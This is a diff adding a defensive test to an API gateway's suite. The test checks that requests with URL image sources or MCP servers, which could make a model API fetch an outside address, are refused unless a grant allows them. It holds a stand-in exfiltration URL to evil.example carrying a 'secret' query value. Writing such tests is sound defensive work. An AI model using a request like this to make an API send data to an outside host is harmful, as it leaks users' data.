@@ -454,3 +454,34 @@ async def test_the_idle_timeout_counts_from_the_last_activity() -> None:
     cancelled.start()
     cancelled.cancel()
     await asyncio.sleep(0.1)
+
+
+async def test_a_request_that_makes_the_api_reach_out_is_refused_unless_the_grant_allows_it(scripted) -> None:
+    """Issue 30.4: before, the gateway forwarded any Messages body; a URL image made the API fetch an
+    address the tool chose, with the phase's data in it."""
+    gateway, caps = await start_gateway(scripted.base_url)
+    try:
+        sink = RecordingSink()
+        capability = caps.issue(grant(sink))
+        url_image = {**BODY, "messages": [{"role": "user", "content": [
+            {"type": "image", "source": {"type": "url", "url": "https://evil.example/?d=secret"}}]}]}
+        response = await post(gateway, {"x-api-key": capability}, body=url_image)
+        assert response.status == 400
+        error = json.loads(response.body)
+        assert error["type"] == "error" and error["error"]["type"] == "invalid_request_error"
+        assert "refused url_sources at messages[0].content[0]" in error["error"]["message"]
+        assert scripted.requests == []
+        (event,) = sink.events
+        assert event.kind is GatewayEventKind.FEATURE_REFUSED and event.http_status == 400
+        # count_tokens too; gzip does not hide it.
+        response = await post(gateway, {"x-api-key": capability, "content-encoding": "gzip"},
+                              body=gzip.compress(json.dumps({**BODY, "mcp_servers": [{"url": "u"}]}).encode()),
+                              path="/v1/messages/count_tokens")
+        assert response.status == 400 and "mcp_servers" in json.loads(response.body)["error"]["message"]
+        # A grant that names the feature lets it through; an ordinary request always passes.
+        allowed = caps.issue(Grant(job_id="job", phase_id="p2", project="proj", sink=RecordingSink(),
+                                   features=frozenset({"url_sources"})))
+        assert (await post(gateway, {"x-api-key": allowed}, body=url_image)).status == 200
+        assert (await post(gateway, {"x-api-key": capability})).status == 200
+    finally:
+        await gateway.stop()
